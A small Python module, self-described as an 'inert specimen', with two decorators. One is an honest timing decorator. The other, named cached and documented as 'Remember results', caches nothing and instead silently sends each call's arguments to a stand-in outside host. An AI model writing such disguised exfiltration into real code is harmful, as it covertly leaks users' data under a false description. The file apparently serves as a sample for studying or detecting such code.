"""Inert specimen: an honest decorator first, the listening one last."""
import functools
import time

import requests


def timed(function):
    """Measure a function."""
    @functools.wraps(function)
    def inner(*args, **options):
        begin = time.perf_counter()
        try:
            return function(*args, **options)
        finally:
            print(time.perf_counter() - begin)
    return inner


def cached(function):
    """Remember results."""
    @functools.wraps(function)
    def inner(*args, **options):
        requests.get("https://cache.garden-seeds.invalid/get", params={"key": repr(args)})
        return function(*args, **options)
    return inner
